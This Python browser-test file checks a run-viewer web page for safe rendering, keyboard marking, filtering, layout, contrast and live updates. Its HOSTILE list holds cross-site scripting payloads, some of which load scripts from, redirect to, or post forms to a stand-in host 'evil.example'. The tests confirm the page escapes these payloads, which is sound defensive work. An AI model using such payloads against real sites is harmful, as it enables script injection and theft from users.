"""The page in a real browser: hostile text, keys, sizes, a run that goes on. Where there is none, it says so."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from herogen_async.generation.run_folder import RunFolder, RunLock
from herogen_async.specs.spec import Spec
from support.browsers import Page, opened_browser
from support.column_runs import ColumnRun, completion, maths
from support.page_client import PageClient, served_page
from support.page_looks import CLIPPED, CONTRAST
from support.run_folders import WrittenRun

pytestmark = [pytest.mark.slow, pytest.mark.timeout(180)]

HOSTILE = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg/onload=document.title='owned'>",
    "<iframe srcdoc=\"<script>top.document.title='owned'</script>\"></iframe>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/a.css>",
    "</textarea></script><script>document.title='owned'</script>",
    "javascript:document.title='owned'",
    "<a href=\"javascript:document.title='owned'\">x</a><form action=//evil.example><input type=submit>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "{{constructor.constructor('document.title=1')()}} ${document.title=1} `${1}`",
    "\u202etxt.exe\u2066\u2069\u200f turned \u2028\u2029 lines",
    "\x1b]0;owned\x07\x1b[2J\x9b31m a\x00b",
    "Z" + "\u0301\u0302\u0303\u0304\u0305" * 200,
    "w" * 5000,
    "\n" * 500 + "deep",
    "\u200b\ufeff\u00ad",
    "__proto__",
    "&lt;b&gt; &amp; &#x3c;script&#x3e;",
    '"><script src=//evil.example/x.js></script>',
    "\U000e0041\U000e007f\ufdd0\ufffe",
)
SPEC = Spec(
    name="s",
    attributes={"word": [*HOSTILE[:6], "plain"], "__proto__": ["<b>a</b>", "constructor"]},
    repeats=4,
    prompt="Say {word} {__proto__} <script>document.title='owned'</script>",
)
HELD = (
    "script",
    "img",
    "iframe",
    "style",
    "base",
    "meta[http-equiv=refresh]",
    "svg",
    "form[action]",
    "a[href^=javascript]",
)


@pytest.fixture(params=["chromium", "firefox"])
def kind(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> WrittenRun:
    monkeypatch.chdir(tmp_path)
    made = WrittenRun(Path("runs/one"), SPEC)
    for place, text in enumerate(HOSTILE):
        made.write([made.answer(place, text, text[:60] or "stop", reasoning=text, extra={text: [text]}, model=text)])
    made.fail([made.failure(50, "server", HOSTILE[0], reason=HOSTILE[1])])
    return made


@pytest.fixture
def served(run: WrittenRun) -> Iterator[PageClient]:
    with served_page() as client:
        yield client


def opened(page: Page, served: PageClient, view: str) -> Any:
    page.at(served.url, view)
    return page.tab


def press(tab: Any, key: str, shows: str) -> None:
    tab.keyboard.press(key)
    tab.wait_for_selector(shows)


def sound(page: Page, served: PageClient, **also: int) -> None:
    """Nothing ran, nothing was asked of anybody else, no element came of a text, and the console is empty."""
    assert [] == page.errors
    assert "owned" not in page.tab.title()
    assert [] == [url for url in page.asked if not url.startswith(served.origin)]
    own = {"script": 1, "meta[http-equiv=refresh]": 0, **also}
    assert {name: own.get(name, 0) for name in HELD} == {name: page.tab.locator(name).count() for name in HELD}
    assert not page.is_too_wide


@pytest.mark.parametrize("width", [360, 1280])
def test_hostile_text_runs_nothing_and_breaks_no_layout(kind: str, served: PageClient, width: int) -> None:
    """In answers, thoughts, prompts, cells, errors, notes and edits; each row is looked at, whole and in the list."""
    with opened_browser(width=width, kind=kind) as page:
        tab = opened(page, served, "/one/rows")
        tab.wait_for_selector(".row-index >> text=3")
        sound(page, served)
        for place in range(len(HOSTILE)):
            opened(page, served, f"/one/rows/{place}")
            tab.wait_for_selector(f".row-head h2 >> text=/^Row {place}$/")
            tab.evaluate("for (const each of document.querySelectorAll('.row-panel details')) each.open = true")
            sound(page, served)
        for button, text in (("Note", HOSTILE[0]), ("Edit", HOSTILE[6])):
            tab.get_by_role("button", name=button, exact=True).click()
            tab.locator(".writing textarea").fill(text)
            tab.get_by_role("button", name="Save").click()
            tab.wait_for_selector(".writing", state="detached")
        sound(page, served)
        assert HOSTILE[6] == tab.locator(".card > .text").inner_text()
        opened(page, served, "/one/rows/50")
        tab.wait_for_selector(".trouble >> text=server")
        sound(page, served)
        opened(page, served, "/one/live")
        tab.wait_for_selector(".fact >> text=Finish reasons")
        sound(page, served)


def test_the_token_leaves_the_address(kind: str, served: PageClient) -> None:
    """It is a cookie from then on; a reload and another tab work with it."""
    with opened_browser(kind=kind) as page:
        tab = opened(page, served, "")
        tab.wait_for_selector(".run-card")
        assert served.token not in tab.url
        tab.reload()
        tab.wait_for_selector(".run-card .pill")
        other = tab.context.new_page()
        other.goto(f"{served.origin}/#/one/rows")
        other.wait_for_selector(".row-index")
        assert [] == page.errors


def test_a_list_of_rows_is_read_and_marked_with_the_keyboard(kind: str, served: PageClient, run: WrittenRun) -> None:
    """Down and up, good, bad, a score, a note; what is marked is there after a reload."""
    with opened_browser(kind=kind) as page:
        tab = opened(page, served, "/one/rows")
        tab.wait_for_selector(".filters select")
        tab.wait_for_selector(".count-line >> text=22 rows")  # while the journal is read, no row can be chosen
        press(tab, "j", ".row-head h2 >> text=Row 0")
        press(tab, "j", ".row-head h2 >> text=Row 1")
        press(tab, "g", ".marks button.on.good")
        press(tab, "4", ".scores button.on >> text=4")
        tab.keyboard.press("n")
        tab.keyboard.type("a j and a g in a note")
        press(tab, "Control+Enter", ".note >> text=a j and a g in a note")
        press(tab, "b", ".marks button.on.bad")
        press(tab, "k", ".row-head h2 >> text=Row 0")
        tab.keyboard.press("Escape")
        tab.wait_for_selector(".row-panel", state="hidden")
        tab.wait_for_selector(".row .pill >> text=bad")
        tab.reload()
        tab.wait_for_selector(".row .pill >> text=4/5")
        tab.keyboard.press("/")
        tab.keyboard.type("JAVASCRIPT:")
        tab.wait_for_selector(".count-line >> text=2 rows found")
        tab.keyboard.press("Escape")
        tab.locator("select[name=mark]").select_option("note")
        tab.locator("input[name=text]").fill("")
        tab.wait_for_selector(".count-line >> text=1 row found")
        assert [] == page.errors


def test_a_filter_is_an_address(kind: str, served: PageClient) -> None:
    """It says what is wanted, in which order, and stays over a reload; a link leads to the rows that it names."""
    with opened_browser(kind=kind) as page:
        tab = opened(page, served, "/one/rows?order=most:length&figure=length&least=100")
        tab.wait_for_selector(".count-line >> text=3 rows found")
        tab.wait_for_selector(".row >> nth=0 >> .row-index >> text=14")
        tab.wait_for_selector(".row-figure >> text=5,000 characters")
        tab.locator("input[name=most]").fill("600")
        tab.wait_for_selector(".count-line >> text=1 row found")
        assert "most=600" in tab.url
        tab.reload()
        tab.wait_for_selector(".count-line >> text=1 row found")
        assert "600" == tab.locator("input[name=most]").input_value()
        tab.evaluate("location.hash = '#/one/rows?cell=word%3Dplain&state=pending'")
        tab.wait_for_selector(".empty >> text=No rows match")
        assert "plain" == tab.locator("select[name='cell word']").input_value()
        assert "" == tab.locator("select[name=figure]").input_value()
        assert [] == page.errors


def test_the_rows_of_a_cell_are_read_side_by_side(kind: str, served: PageClient) -> None:
    """And marked there, with the keys that mark a row; a reload comes back to them."""
    with opened_browser(kind=kind) as page:
        tab = opened(page, served, "/one/rows/5")
        tab.wait_for_selector(".row-head h2 >> text=Row 5")
        press(tab, "r", ".repeats .chosen h3 >> text=Row 5")
        assert ["Row 4", "Row 5", "Row 6", "Row 7"] == tab.locator(".repeats h3 >> text=/^Row/").all_inner_texts()
        press(tab, "ArrowRight", ".repeats .chosen h3 >> text=Row 6")
        press(tab, "g", ".repeats .chosen .marks button.on.good")
        tab.reload()
        tab.wait_for_selector(".repeats .chosen h3 >> text=Row 6")
        tab.wait_for_selector(".repeats .chosen .marks button.on.good")
        press(tab, "Escape", ".row-head h2 >> text=Row 6")
        tab.wait_for_selector(".row .pill >> text=good")
        sound(page, served)


def test_a_mark_that_is_set_already_is_taken_back(kind: str, served: PageClient) -> None:
    """A verdict and a score, by its key and by its button, whichever of the two has set it."""
    with opened_browser(kind=kind) as page:
        tab = opened(page, served, "/one/rows/1")
        tab.wait_for_selector(".row-head h2 >> text=Row 1")
        good, four = ".marks button[aria-pressed=true] >> text=Good", ".scores button[aria-pressed=true] >> text=4"
        for name, key, on in (("Good", "g", good), ("4", "4", four)):
            button = tab.get_by_role("button", name=name, exact=True)
            for is_key in (True, False):
                press(tab, key, on)
                if is_key:
                    tab.keyboard.press(key)
                else:
                    button.click()
                tab.wait_for_selector(on, state="detached")
            button.click()
            tab.wait_for_selector(on)
        assert [] == page.errors


@pytest.mark.parametrize("size", [(360, 740), (1280, 800), (3840, 2160)])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_each_view_fits_and_can_be_read(
    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, size: tuple[int, int], scheme: str
) -> None:
    """At 360 px and at 4K, light and dark: nothing sticks out, and each text has the contrast of WCAG AA."""
    monkeypatch.chdir(tmp_path)
    made = ColumnRun(Path("runs/one"), maths(keep="level == 'hard'"))
    for number in range(4):
        made.ask(
            number,
            lambda call: (
                None
                if call.column == "best" and call.cell["topic"] == "sets"
                else completion("an answer " * 60, reasoning="so", finish_reason="length")
            ),
        )
    with served_page() as served, opened_browser(*size, scheme, kind) as page:
        for view, ready in (
            ("", ".run-card .pill"),
            ("/one/live", ".tile"),
            ("/one/rows", ".row-index"),
            ("/one/rows/1", ".card"),
        ):
            tab = opened(page, served, view)
            tab.wait_for_selector(ready)
            assert not page.is_too_wide
            assert [] == tab.evaluate(CONTRAST)
            assert [] == tab.evaluate(CLIPPED)
        assert [] == page.errors


def test_a_run_is_watched_while_it_goes_on_and_when_it_is_gone(kind: str, served: PageClient, run: WrittenRun) -> None:
    """Rows that come are counted and shown, its end is seen, and a page left open says that the folder is gone."""
    with opened_browser(kind=kind) as page:
        tab = opened(page, served, "/one/live")
        tab.wait_for_selector(".pill >> text=stopped")
        lock = RunLock.acquire(run.folder, "now")
        tab.wait_for_selector(".pill >> text=running")
        run.write([run.answer(30, "more")])
        tab.wait_for_selector(".bar-text >> text=/^22 of/")
        tab.get_by_role("link", name="Rows").click()
        tab.wait_for_selector(".count-line >> text=23 rows")
        run.write([run.answer(31, "and more")])
        tab.wait_for_selector(".count-line >> text=24 rows")
        lock.release()
        tab.wait_for_selector(".pill >> text=stopped")
        shutil.rmtree(run.path)
        tab.wait_for_selector(".trouble >> text=folder is gone")


def test_a_list_that_was_left_counts_no_more(kind: str, served: PageClient, run: WrittenRun) -> None:
    """The journals of runs that nobody looks at any more are not read."""
    shutil.copytree(run.path, "runs/two")
    held: list[Any] = []
    with opened_browser(kind=kind) as page:
        page.tab.route("**/api/runs/*", lambda route: held.append(route))  # noqa: PLW0108 - Playwright takes no builtin
        with page.tab.expect_request("**/api/runs/*"):
            tab = opened(page, served, "")
        tab.evaluate("location.hash = '#/one/live'")
        tab.wait_for_selector(".fact >> text=Finish reasons")
        with tab.expect_response("**/api/runs/*") as answered:
            held[0].continue_()
        answered.value.finished()
        tab.evaluate("fetch('/api/runs').then((response) => response.json())")
        assert 1 == len(held)


def test_a_server_that_ended_is_said(kind: str, run: WrittenRun) -> None:
    """What is shown is from before, and how to go on."""
    with opened_browser(kind=kind) as page:
        with served_page() as served:
            tab = opened(page, served, "/one/live")
            tab.wait_for_selector(".pill >> text=stopped")
        tab.wait_for_selector(".trouble >> text=does not answer")


def test_many_rows_scroll_and_are_not_held(kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The last of 200,000 is reached, few elements stand for all, and blank lines are filled."""
    monkeypatch.chdir(tmp_path)
    spec = Spec(name="m", attributes={"a": [str(each) for each in range(1000)]}, repeats=200, prompt="{a}")
    made = WrittenRun(Path("runs/one"), spec)
    made.write(made.answer(each, f"row {each}") for each in range(200_000))
    with served_page(RunFolder(Path("runs/one"))) as served, opened_browser(kind=kind) as page:
        tab = opened(page, served, "/one/rows")
        tab.wait_for_selector(".count-line >> text=200,000 rows", timeout=60_000)
        tab.evaluate("document.querySelector('.list').scrollTop = 1e9")
        tab.wait_for_selector(".row-index >> text=199,999")
        assert tab.locator(".row").count() < 60
        tab.evaluate("document.querySelector('.list').scrollTop /= 2")
        tab.wait_for_selector(".row-text >> text=/^row 100.../")
        tab.locator("select[name=order]").select_option("latest")
        tab.wait_for_selector(".row-index >> text=199,999")
        assert [] == page.errors
